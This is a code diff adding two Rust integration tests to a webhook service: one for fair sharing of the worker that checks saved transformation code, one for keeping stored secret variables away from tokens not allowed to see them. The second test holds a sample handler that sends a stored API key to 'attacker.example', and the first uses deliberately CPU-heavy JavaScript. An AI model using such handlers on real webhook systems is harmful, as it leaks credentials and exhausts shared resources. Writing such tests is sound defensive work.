@@ -1823,3 +1823,101 @@ async fn a_preview_shows_what_a_delivery_sends() {
     assert_eq!(status, 200, "{out}");
     assert!(text.contains(&format!(r#""body":{payload}"#)), "{text}");
 }
+
+/// Code being saved is checked on one worker shared by the applications: one application
+/// checks one at a time (another while one runs is 429 `busy`), so that its token saving
+/// slow code from many requests at once cannot keep another application's save from the
+/// worker past its wait (503).
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn one_application_checks_its_code_one_at_a_time() {
+    let server = Server::start("").await;
+    let (greedy, other) = (server.create_app("greedy-checks").await, server.create_app("other-checks").await);
+    let (ep, _) = server.create_endpoint(&greedy, json!({ "url": "https://example.com/hook" })).await;
+    let (other_ep, _) = server.create_endpoint(&other, json!({ "url": "https://example.com/hook" })).await;
+    // Each check runs 2 s, till its worker is killed.
+    let slow = "'a'.repeat(4e6).indexOf('a'.repeat(2e6) + 'b'); function handler(w) { return w }";
+    let patch = |app: &str, ep: &str, code: String| {
+        let path = format!("/api/v1/app/{app}/endpoint/{ep}/transformation");
+        let request = server.client.patch(server.url(&path)).bearer_auth(ADMIN).json(&json!({ "code": code })).send();
+        async move {
+            let response = request.await.expect("PATCH");
+            let retry_after = response.headers().get("retry-after").map(|v| v.to_str().unwrap_or_default().to_string());
+            let (status, body) = read(response).await;
+            (status, body, retry_after)
+        }
+    };
+    let greedy_saves = futures::future::join_all((0..6).map(|i| patch(&greedy, &ep, format!("{slow} // {i}"))));
+    let other_save = async {
+        tokio::time::sleep(Duration::from_millis(500)).await;
+        let started = Instant::now();
+        let answer = patch(&other, &other_ep, "function handler(w) { return w }".into()).await;
+        (answer, started.elapsed())
+    };
+    let (greedy_answers, ((status, body, _), took)) = tokio::join!(greedy_saves, other_save);
+    assert_eq!(status, 204, "another application's save waits for one check at most, {took:?}: {body}");
+    let busy: Vec<_> = greedy_answers.iter().filter(|(status, ..)| *status == 429).collect();
+    assert_eq!(busy.len(), 5, "{greedy_answers:?}");
+    for (_, body, retry_after) in busy {
+        assert_eq!((&body["code"], retry_after.as_deref()), (&json!("busy"), Some("1")), "{body}");
+    }
+    let ran: Vec<_> = greedy_answers.iter().filter(|(status, ..)| *status != 429).collect();
+    assert_eq!(ran[0].0, 422, "{:?}", ran[0]);
+    // Once it has answered, the application checks again.
+    let (status, body, _) = patch(&greedy, &ep, "function handler(w) { return w }".into()).await;
+    assert_eq!(status, 204, "{body}");
+}
+
+/// A token that may change transformations but not see their variables' values
+/// (`ManageTransformations` without `ViewEndpointSecret`) cannot keep the stored values
+/// under code of its own, which could send them anywhere: new code needs every value given
+/// again, or none. Code it leaves as it is keeps them (enabling it, a read-modify-write).
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn new_code_from_a_token_that_may_not_see_the_variables_keeps_none() {
+    let server = Server::start("").await;
+    let app = server.create_app("variables").await;
+    let (ep, _) = server.create_endpoint(&app, json!({ "url": "https://example.com/hook" })).await;
+    let path = format!("/api/v1/app/{app}/endpoint/{ep}/transformation");
+    let own = "function handler(w) { w.headers['x-api-key'] = w.variables.apiKey; return w }";
+    let setup = json!({ "code": own, "enabled": true, "variables": { "apiKey": "k-secret-123" } });
+    assert_eq!(server.call("PATCH", &path, Some(setup)).await.0, 204);
+    let (status, access) = server
+        .call(
+            "POST",
+            &format!("/api/v1/auth/app-portal-access/{app}"),
+            Some(json!({ "capabilities": ["ViewBase", "ManageTransformations"] })),
+        )
+        .await;
+    assert_eq!(status, 200, "{access}");
+    let token = access["token"].as_str().expect("token").to_string();
+    let stored = || async { server.call("GET", &path, None).await.1 };
+    let exfiltrate = "function handler(w) { w.url = 'https://attacker.example/?k=' + w.variables.apiKey; return w }";
+    for refused in [
+        json!({ "code": exfiltrate }),
+        json!({ "code": exfiltrate, "variables": { "apiKey": "[redacted]" } }),
+        json!({ "code": exfiltrate, "variables": { "apiKey": "[redacted]", "region": "eu" } }),
+    ] {
+        let (status, out) = server.call_as(&token, "PATCH", &path, Some(refused.clone())).await;
+        assert_eq!((status, &out["detail"][0]["loc"]), (422, &json!(["body", "variables"])), "{refused}: {out}");
+        assert!(out["detail"][0]["msg"].as_str().unwrap_or_default().contains("apiKey"), "{out}");
+    }
+    let now = stored().await;
+    assert_eq!((&now["code"], &now["variables"]), (&json!(own), &json!({ "apiKey": "k-secret-123" })), "{now}");
+    // The code as it is keeps them: toggled, or written back as read.
+    assert_eq!(server.call_as(&token, "PATCH", &path, Some(json!({ "enabled": false }))).await.0, 204);
+    let (_, read_back) = server.call_as(&token, "GET", &path, None).await;
+    let back = json!({ "code": read_back["code"], "enabled": true, "variables": read_back["variables"] });
+    assert_eq!(server.call_as(&token, "PATCH", &path, Some(back)).await.0, 204);
+    assert_eq!(stored().await["variables"], json!({ "apiKey": "k-secret-123" }));
+    // New code with every value given again (values it knows), or with none.
+    let given = json!({ "code": exfiltrate, "variables": { "apiKey": "its-own" } });
+    assert_eq!(server.call_as(&token, "PATCH", &path, Some(given)).await.0, 204);
+    assert_eq!(stored().await["variables"], json!({ "apiKey": "its-own" }));
+    let none = json!({ "code": own, "variables": null });
+    assert_eq!(server.call_as(&token, "PATCH", &path, Some(none)).await.0, 204);
+    assert_eq!(stored().await["variables"], json!({}));
+    // Whoever may see them changes the code and keeps them.
+    let admin = json!({ "variables": { "apiKey": "k-secret-123" } });
+    assert_eq!(server.call("PATCH", &path, Some(admin)).await.0, 204);
+    assert_eq!(server.call("PATCH", &path, Some(json!({ "code": exfiltrate }))).await.0, 204);
+    assert_eq!(stored().await["variables"], json!({ "apiKey": "k-secret-123" }));
+}
